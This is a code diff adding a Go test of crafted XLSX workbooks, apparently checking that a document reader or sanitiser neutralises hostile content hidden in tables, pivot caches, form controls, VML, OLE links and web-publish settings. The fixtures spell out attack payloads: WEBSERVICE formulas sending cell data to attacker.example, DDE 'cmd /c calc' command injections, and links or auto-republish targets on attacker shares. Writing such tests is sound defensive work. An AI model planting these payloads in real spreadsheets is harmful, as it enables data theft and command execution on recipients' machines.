@@ -143,6 +143,51 @@ func TestReadersODF(t *testing.T) {
 	runCases(t, cases)
 }
 
+// TestReadersSpreadsheet: formulas and links in the places of a workbook other than cells
+// (tables, pivot caches, charts, form controls, VML, extension lists) and workbook
+// features that write or fetch.
+func TestReadersSpreadsheet(t *testing.T) {
+	const sml = `http://schemas.openxmlformats.org/spreadsheetml/2006/main`
+	rNS := relBase[:len(relBase)-1]
+	ws := `WEBSERVICE("http://attacker.example/?"&amp;A1)`
+	wsAttr := `WEBSERVICE(&quot;http://attacker.example/&quot;)`
+	type book struct{ sheet, tail, sheetRels, wb, wbRels, types string }
+	xlsx := func(b book, parts ...zipEntry) []byte {
+		p := []zipEntry{
+			{"[Content_Types].xml", `<?xml version="1.0"?><Types xmlns="` + ctPackage + `"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="vml" ContentType="application/vnd.openxmlformats-officedocument.vmlDrawing"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>` + b.types + `</Types>`},
+			{"_rels/.rels", `<?xml version="1.0"?><Relationships xmlns="` + relsNS + `"><Relationship Id="rId1" Type="` + relBase + `officeDocument" Target="xl/workbook.xml"/></Relationships>`},
+			{"xl/workbook.xml", `<?xml version="1.0"?><workbook xmlns="` + sml + `" xmlns:r="` + rNS + `"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets>` + b.wb + `</workbook>`},
+			{"xl/_rels/workbook.xml.rels", `<?xml version="1.0"?><Relationships xmlns="` + relsNS + `"><Relationship Id="rId1" Type="` + relBase + `worksheet" Target="worksheets/sheet1.xml"/>` + b.wbRels + `</Relationships>`},
+			{"xl/worksheets/sheet1.xml", `<?xml version="1.0"?><worksheet xmlns="` + sml + `" xmlns:r="` + rNS + `"><sheetData><row r="1"><c r="A1"><v>1</v></c><c r="B1"><v>2</v></c></row>` + b.sheet + `</sheetData>` + b.tail + `</worksheet>`},
+		}
+		if b.sheetRels != "" {
+			p = append(p, zipEntry{"xl/worksheets/_rels/sheet1.xml.rels", `<?xml version="1.0"?><Relationships xmlns="` + relsNS + `">` + b.sheetRels + `</Relationships>`})
+		}
+		return mkzip(t, append(p, parts...)...)
+	}
+	cases := []advCase{
+		{"xlsx/function-prefixes-and-case", "a.xlsx", "", xlsx(book{sheet: `<row r="2"><c r="A2"><f>_xlfn.WEBSERVICE("http://attacker.example/")</f></c><c r="B2"><f>webservice ("http://attacker.example/")</f></c><c r="C2"><f>@WEBSERVICE("http://attacker.example/")</f></c><c r="D2"><f>SUM('cmd'|'/c calc'!A0)</f></c></row>`}), "safe", ""},
+		{"xlsx/shared-and-array-formulas", "a.xlsx", "", xlsx(book{sheet: `<row r="2"><c r="A2"><f t="shared" ref="A2:A3" si="0">SUM(B1)</f></c></row><row r="3"><c r="A3"><f t="shared" si="0">` + ws + `</f></c><c r="B3"><f t="array" ref="B3">` + ws + `</f></c></row>`}), "safe", ""},
+		{"xlsx/hyperlink-computed-target", "a.xlsx", "", xlsx(book{sheet: `<row r="2"><c r="A2"><f>HYPERLINK("file://attacker.example/x.exe")</f></c><c r="B2"><f>HYPERLINK(CONCATENATE("fi","le://attacker.example/x.exe"))</f></c></row>`}), "safe", ""},
+		{"xlsx/table-calculated-column", "a.xlsx", "", xlsx(book{tail: `<tableParts count="1"><tablePart r:id="rId3"/></tableParts>`, sheetRels: `<Relationship Id="rId3" Type="` + relBase + `table" Target="../tables/table1.xml"/>`, types: `<Override PartName="/xl/tables/table1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.table+xml"/>`},
+			zipEntry{"xl/tables/table1.xml", `<table xmlns="` + sml + `" id="1" name="T" displayName="T" ref="A1:B2"><tableColumns count="2"><tableColumn id="1" name="a"/><tableColumn id="2" name="b"><calculatedColumnFormula>` + ws + `</calculatedColumnFormula><totalsRowFormula>cmd|' /c calc'!A0</totalsRowFormula></tableColumn></tableColumns></table>`}), "safe", ""},
+		{"xlsx/pivot-cache-formula-and-source", "a.xlsx", "", xlsx(book{wb: `<pivotCaches><pivotCache cacheId="1" r:id="rId5"/></pivotCaches>`, wbRels: `<Relationship Id="rId5" Type="` + relBase + `pivotCacheDefinition" Target="pivotCache/pivotCacheDefinition1.xml"/>`, types: `<Override PartName="/xl/pivotCache/pivotCacheDefinition1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.pivotCacheDefinition+xml"/>`},
+			zipEntry{"xl/pivotCache/pivotCacheDefinition1.xml", `<pivotCacheDefinition xmlns="` + sml + `" xmlns:r="` + rNS + `" refreshOnLoad="1"><cacheSource type="worksheet"><worksheetSource ref="A1:B2" sheet="S" r:id="rId2"/></cacheSource><cacheFields count="1"><cacheField name="a" numFmtId="0" formula="` + wsAttr + `"/></cacheFields></pivotCacheDefinition>`},
+			zipEntry{"xl/pivotCache/_rels/pivotCacheDefinition1.xml.rels", `<Relationships xmlns="` + relsNS + `"><Relationship Id="rId2" Type="` + relBase + `externalLinkPath" Target="file:///\\attacker.example\s\x.xlsx" TargetMode="External"/></Relationships>`}), "safe", ""},
+		{"xlsx/form-control-properties", "a.xlsx", "", xlsx(book{tail: `<controls><control shapeId="1025" r:id="rId3" name="B"/></controls>`, sheetRels: `<Relationship Id="rId3" Type="` + relBase + `ctrlProp" Target="../ctrlProps/ctrlProp1.xml"/>`, types: `<Override PartName="/xl/ctrlProps/ctrlProp1.xml" ContentType="application/vnd.ms-excel.controlproperties+xml"/>`},
+			zipEntry{"xl/ctrlProps/ctrlProp1.xml", `<formControlPr xmlns="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main" objectType="Drop" fmlaLink="cmd|'/c calc'!A0" fmlaRange="` + wsAttr + `"/>`}), "safe", ""},
+		{"xlsx/vml-control-formulas", "a.xlsx", "", xlsx(book{tail: `<legacyDrawing r:id="rId2"/>`, sheetRels: `<Relationship Id="rId2" Type="` + relBase + `vmlDrawing" Target="../drawings/vmlDrawing1.vml"/>`},
+			zipEntry{"xl/drawings/vmlDrawing1.vml", `<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:x="urn:schemas-microsoft-com:office:excel"><v:shape id="_x0000_s1025" style="position:absolute;width:50pt;height:20pt"><v:fill src="http://attacker.example/f.png" type="frame"/><x:ClientData ObjectType="Button"><x:Anchor>1, 0, 1, 0, 3, 0, 3, 0</x:Anchor><x:FmlaLink>cmd|'/c calc'!A0</x:FmlaLink><x:FmlaRange>` + ws + `</x:FmlaRange></x:ClientData></v:shape></xml>`}), "safe", ""},
+		{"xlsx/ole-link-through-external-reference", "a.xlsx", "", xlsx(book{tail: `<oleObjects><oleObject progId="Word.Document.12" link="[1]!''''" oleUpdate="OLEUPDATE_ALWAYS" autoLoad="1" shapeId="1025"/></oleObjects>`, wb: `<externalReferences><externalReference r:id="rId5"/></externalReferences>`, wbRels: `<Relationship Id="rId5" Type="` + relBase + `externalLink" Target="externalLinks/externalLink1.xml"/>`, types: `<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>`},
+			zipEntry{"xl/externalLinks/externalLink1.xml", `<externalLink xmlns="` + sml + `" xmlns:r="` + rNS + `"><oleLink r:id="rId1" progId="Word.Document.12"><oleItems><oleItem name="'" advise="1"/></oleItems></oleLink></externalLink>`},
+			zipEntry{"xl/externalLinks/_rels/externalLink1.xml.rels", `<Relationships xmlns="` + relsNS + `"><Relationship Id="rId1" Type="` + relBase + `oleObject" Target="http://attacker.example/x.docx" TargetMode="External"/></Relationships>`}), "safe", ""},
+		// Excel writes the workbook as HTML to destinationFile each time it is saved.
+		{"xlsx/web-publish-to-share", "a.xlsx", "", xlsx(book{wb: `<webPublishObjects count="1"><webPublishObject id="1" divId="x" destinationFile="\\attacker.example\s\y.htm" autoRepublish="1"/></webPublishObjects>`,
+			tail: `<webPublishItems count="1"><webPublishItem id="1" divId="x" sourceType="sheet" destinationFile="\\attacker.example\s\x.htm" autoRepublish="1"/></webPublishItems>`}), "safe", ""},
+	}
+	runCases(t, cases)
+}
+
 // TestReadersMailAndNames: MIME that readers repair, and names that Windows normalises
 // into executables when it writes the file.
 func TestReadersMailAndNames(t *testing.T) {
